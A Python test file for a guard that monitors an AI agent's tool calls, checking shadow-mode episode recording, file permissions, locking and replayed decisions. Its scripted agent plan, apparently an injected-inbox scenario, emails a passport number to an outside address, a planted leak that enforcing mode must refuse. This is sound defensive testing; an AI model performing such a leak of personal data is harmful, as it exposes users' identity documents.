"""Shadow-mode recording (guard/recorder.py): the replayable episode file, its permissions and locking,
identical decisions in shadow and enforcing mode, and a recorder that never crashes the agent."""

from __future__ import annotations

import json
import multiprocessing
import os
import stat
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.audit import MemoryAudit
from guard.calibration.replay import replay_decisions
from guard.corpora.episodes import load_episodes
from guard.decision import Decision, Verdict
from guard.errors import BindingError, InputError
from guard.policy import Policy
from guard.recorder import EpisodeRecorder, stop_max
from guard.runtime import Guard, Session

LEAK_ARGS = {"to": "records@outside-archive.net", "subject": "passport", "body": "Passport number X4821-99317"}

Tool = Callable[[dict[str, Any]], str]


def _tools(texts: Any) -> dict[str, Tool]:
    return {
        "read_certificate": lambda a: texts.cert,
        "read_document": lambda a: texts.doc,
        "read_inbox": lambda a: texts.inbox,
        "create_note": lambda a: f"Note created: {a.get('title', '')}",
        "send_email": lambda a: f"sent to {a.get('to', '')}",
        "post_note": lambda a: "posted",
    }


PLAN: list[tuple[str, dict[str, Any]]] = [
    ("read_certificate", {"name": "passport"}),
    ("read_inbox", {}),
    ("create_note", {"title": "passport", "body": "Passport number X4821-99317"}),
    ("send_email", LEAK_ARGS),
]


def _agent(session: Session | None, tools: dict[str, Tool]) -> list[tuple[str, dict[str, Any], str]]:
    """A scripted agent: runs PLAN; with a session, through decide → authorize (a refusal is a message)."""
    seen: list[tuple[str, dict[str, Any], str]] = []
    if session is not None:
        session.observe_user("Tidy up my documents.")
    for k, (tool, args) in enumerate(PLAN):
        call_id = f"c{k}"
        if session is None:
            run_args, text = dict(args), tools[tool](dict(args))
        else:
            session.decide(tool, args, call_id)
            try:
                run_args = session.authorize(call_id, tool, args)
            except BindingError as exc:
                seen.append((tool, {}, f"refused: {exc}"))
                continue
            text = tools[tool](run_args)
            session.observe_result(call_id, text)
        seen.append((tool, run_args, text))
    if session is not None:
        session.observe_final("done")
    return seen


def _strip(entry: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in entry.items() if k not in ("ts", "latency_us", "mode", "hash", "prev")}


def test_file_created_0600_one_line_at_final(small_policy: Policy, tmp_path: Path, texts: Any) -> None:
    """Catches a world-readable episodes file, a missing line, or a line written before the final answer."""
    path = tmp_path / "episodes.jsonl"
    old = os.umask(0)
    try:
        g = Guard(small_policy, threshold=0.5, mode="shadow", record=path)
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    s = g.session("ep-1")
    s.observe_user("Tidy up my documents.")
    s.decide("read_certificate", {"name": "passport"}, "c0")
    s.observe_result("c0", texts.cert)
    assert path.read_text() == ""
    s.observe_final("done")
    s.close()
    lines = path.read_text().splitlines()
    assert len(lines) == 1
    data = json.loads(lines[0])
    assert data["id"] == "ep-1" and data["meta"]["policy"] == "small"
    assert [r["kind"] for r in data["records"]] == ["user", "proposal", "result", "final"]
    assert data["records"][2]["text"] == texts.cert  # raw tool results, as documented
    assert data["meta"]["tags"]["ended"] == "final" and data["meta"]["tags"]["mode"] == "shadow"


def test_existing_wide_file_narrowed(small_policy: Policy, tmp_path: Path) -> None:
    """Catches appending raw results to an existing world-readable file without narrowing it."""
    path = tmp_path / "episodes.jsonl"
    path.write_text("")
    path.chmod(0o644)
    Guard(small_policy, threshold=0.5, record=path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_unfinished_session_written_at_close_once(small_policy: Policy, tmp_path: Path, texts: Any) -> None:
    """Catches a lost unfinished episode, a second line at close, and recording records after the end."""
    path = tmp_path / "e.jsonl"
    g = Guard(small_policy, threshold=0.5, record=path, audit=MemoryAudit())
    open_session = g.session("never-closed")
    open_session.observe_user("hello")
    s = g.session("closed")
    s.observe_user("hello")
    s.decide("read_document", {"path": "a"}, "c0")
    s.close()
    s.close()
    s.observe_user("late")
    lines = [json.loads(x) for x in path.read_text().splitlines()]
    assert [x["id"] for x in lines] == ["closed"]
    assert lines[0]["meta"]["tags"]["ended"] == "close"
    assert [r["kind"] for r in lines[0]["records"]] == ["user", "proposal"]


def test_a_reused_session_id_records_its_episode_under_its_segment_id(small_policy: Policy, tmp_path: Path) -> None:
    """A second ``guard.session(id)`` with an id the guard has seen is the id's next segment: its episode is
    recorded under ``<id>#segment-2`` and its session_end says ``recorded: true`` (it is that session's first
    segment), so the episodes file and the audit log name the same units.

    Catches two recorded episodes under one id (planted: `recorded_episode` names the episode by ``session_id``)
    and the second session's own episode reported unrecorded (planted: ``later = segments.number > 1``)."""
    path, audit = tmp_path / "e.jsonl", MemoryAudit()
    g = Guard(small_policy, threshold=0.5, record=path, audit=audit)
    for _ in range(2):
        with g.session("again") as s:
            s.observe_user("hello")
            s.decide("read_document", {"path": "a"}, "c0")
    assert [json.loads(x)["id"] for x in path.read_text().splitlines()] == ["again", "again#segment-2"]
    ends = [(e["session"], e["recorded"]) for e in audit.entries if e.get("event") == "session_end"]
    assert ends == [("again", True), ("again#segment-2", True)]
    assert [e.episode_id for e in load_episodes(path, small_policy)] == ["again", "again#segment-2"]


def test_enforce_audit_says_mode_and_session_end(small_policy: Policy, texts: Any) -> None:
    """Catches shadow entries not marked shadow and a session_end entry carrying raw values."""
    audits = {mode: MemoryAudit() for mode in ("enforce", "shadow")}
    for mode, audit in audits.items():
        g = Guard(small_policy, threshold=0.5, audit=audit, mode=mode, artifact_id="art#1")
        s = g.session("s")
        _agent(s, _tools(texts))
        s.close()
        assert {e["mode"] for e in audit.entries} == {mode}
        end = audit.entries[-1]
        assert end["event"] == "session_end" and end["artifact"] == "art#1" and end["proposals"] == len(PLAN)
        assert end["intervened"] is True and end["stop_max"] > 0.5
        text = json.dumps(end)
        assert texts.cert_number not in text and "outside-archive" not in text
    decisions = [[_strip(e) for e in a.entries if "event" not in e] for a in audits.values()]
    assert decisions[0] == decisions[1]


@settings(max_examples=60)
@given(data=st.data())
def test_shadow_and_enforce_decide_identically(
    small_policy: Policy,
    script_strategy: st.SearchStrategy[list[tuple[Any, ...]]],
    script_runner: Callable[..., tuple[Session, list[Decision]]],
    data: st.DataObject,
) -> None:
    """Catches any decision or audit field that depends on the mode (random scripts, same prefixes)."""
    steps = data.draw(script_strategy)
    threshold = data.draw(st.sampled_from([0.0, 0.3, 0.5, float("inf")]))
    out = {}
    for mode in ("enforce", "shadow"):
        audit = MemoryAudit()
        _, decisions = script_runner(Guard(small_policy, threshold=threshold, audit=audit, mode=mode), steps)
        out[mode] = (
            [(d.verdict, d.reason, d.score, d.selected, d.features) for d in decisions],
            [_strip(e) for e in audit.entries],
        )
    assert out["enforce"] == out["shadow"]


def test_shadow_changes_nothing_the_agent_sees(small_policy: Policy, tmp_path: Path, texts: Any) -> None:
    """Catches shadow mode blocking, rewriting arguments or results, or recording changing decisions."""
    tools = _tools(texts)
    unguarded = _agent(None, tools)
    shadow = Guard(small_policy, threshold=0.5, mode="shadow", record=tmp_path / "e.jsonl")
    assert _agent(shadow.session("s"), tools) == unguarded
    enforced = _agent(Guard(small_policy, threshold=0.5).session("s"), tools)
    assert enforced != unguarded  # the planted leak is refused when enforcing: the comparison can fail


def test_round_trip_and_replay_same_decisions(small_policy: Policy, tmp_path: Path, texts: Any) -> None:
    """Catches a recorded file that does not load, or that replays to other decisions than were made."""
    path = tmp_path / "e.jsonl"
    g = Guard(small_policy, threshold=0.5, mode="shadow", record=path)
    made = {}
    for k in range(3):
        s = g.session(f"ep-{k}")
        _agent(s, _tools(texts))
        made[s.session_id] = [(d.verdict, d.score, d.selected) for d in s.decisions.values()]
    episodes = load_episodes(path, small_policy)
    assert [e.episode_id for e in episodes] == list(made)
    replay = Guard(small_policy, threshold=0.5)
    for episode in episodes:
        again = [(d.verdict, d.score, d.selected) for d in replay_decisions(replay, episode)]
        assert again == made[episode.episode_id]
        assert Verdict.ESCALATE in {v for v, _, _ in again}


class BrokenRecorder(EpisodeRecorder):
    def write(self, line: str) -> None:
        raise OSError(28, "No space left on device")


@pytest.mark.parametrize("mode", ["enforce", "shadow"])
def test_failing_recorder_never_crashes(small_policy: Policy, tmp_path: Path, texts: Any, mode: str) -> None:
    """Catches a recorder error raised into the agent, changing a decision, or hidden from the audit."""
    audit = MemoryAudit()
    g = Guard(small_policy, threshold=0.5, mode=mode, audit=audit, record=BrokenRecorder(tmp_path / "e.jsonl"))
    s = g.session("s")
    seen = _agent(s, _tools(texts))
    s.close()
    plain = Guard(small_policy, threshold=0.5, mode=mode).session("s")
    assert seen == _agent(plain, _tools(texts))
    assert s.recording.error is not None and "No space" in s.recording.error
    assert audit.entries[-1]["recorded"] is False


def test_unwritable_path_is_a_clear_error(small_policy: Policy, tmp_path: Path) -> None:
    """Catches a misconfigured record path failing silently (it must fail at construction, naming the file)."""
    (tmp_path / "dir").mkdir()
    with pytest.raises(InputError, match="dir"):
        Guard(small_policy, threshold=0.5, record=tmp_path / "dir")


def _append_many(path: str, worker: int) -> None:
    recorder = EpisodeRecorder(path, fsync=False)
    for k in range(50):
        recorder.write(json.dumps({"w": worker, "k": k, "pad": "x" * 5000}))


def test_appends_safe_across_threads_and_processes(tmp_path: Path) -> None:
    """Catches interleaved or lost lines when threads and processes append to one file."""
    path = str(tmp_path / "e.jsonl")
    ctx = multiprocessing.get_context("spawn")
    procs = [ctx.Process(target=_append_many, args=(path, w)) for w in range(2)]
    threads = [threading.Thread(target=_append_many, args=(path, 10 + w)) for w in range(3)]
    for p in procs:
        p.start()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for p in procs:
        p.join(60)
        assert p.exitcode == 0
    rows = [json.loads(line) for line in Path(path).read_text().splitlines()]
    assert sorted((r["w"], r["k"]) for r in rows) == sorted((w, k) for w in (0, 1, 10, 11, 12) for k in range(50))


def test_stop_max_oracle() -> None:
    """Catches a statistic that does not stop at the first score above λ̂ or mishandles unscored calls."""
    assert stop_max([0.1, 0.7, 0.9], 0.5) == 0.7
    assert stop_max([0.1, 0.4, 0.3], 0.5) == 0.4
    assert stop_max([0.1, None, 0.9], 0.5) == float("inf")
    assert stop_max([], 0.5) == float("-inf")
    assert stop_max([0.5, 0.9], 0.5) == 0.9


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_annotate_hook_sets_metadata_before_the_episode_is_written(small_policy: Policy, tmp_path: Path) -> None:
    """Catches a recorder that writes the episode at the final answer without asking for its metadata first."""
    path = tmp_path / "e.jsonl"
    asked: list[str] = []

    def annotate(session: Any) -> dict[str, Any]:
        asked.append(session.session_id)
        return {"task": f"task of {session.session_id}", "utility": True}

    guard = Guard(small_policy, threshold=0.5, record=EpisodeRecorder(path, fsync=False, annotate=annotate))
    session = guard.session("s-1")
    session.annotate(attack="inbox")
    session.observe_user("Tidy up my documents.")
    session.observe_final("Done.")
    (line,) = _lines(path)
    assert asked == ["s-1"]
    assert (line["meta"]["task"], line["meta"]["utility"], line["meta"]["attack"]) == ("task of s-1", True, "inbox")


def test_a_bad_annotation_is_reported_not_raised(small_policy: Policy, tmp_path: Path) -> None:
    """Catches an annotate hook whose mistake crashes the agent or writes an episode with unchecked metadata."""
    path = tmp_path / "e.jsonl"
    guard = Guard(small_policy, threshold=0.5, record=EpisodeRecorder(path, annotate=lambda s: {"taks": "x"}))
    session = guard.session("s-1")
    session.observe_user("hi")
    session.observe_final("Done.")
    assert path.read_text() == "" and session.recording.error is not None and "taks" in session.recording.error


def test_appending_never_duplicates_an_episode_id(small_policy: Policy, tmp_path: Path) -> None:
    """Catches a recording that appends a second episode under an id the file already holds (two runs, one file)."""
    path = tmp_path / "e.jsonl"
    audit = MemoryAudit()
    for run in range(2):  # two guards: as two processes, or a rerun appending to last run's file
        guard = Guard(small_policy, threshold=0.5, record=path, audit=audit)
        for sid in ("same", f"new-{run}"):
            session = guard.session(sid)
            session.observe_user("hi")
            session.close()
    assert [line["id"] for line in _lines(path)] == ["same", "new-0", "new-1"]
    ends = [e for e in audit.entries if e.get("event") == "session_end"]
    assert [(e["session"], e["recorded"]) for e in ends] == [
        ("same", True),
        ("new-0", True),
        ("same", False),
        ("new-1", True),
    ]
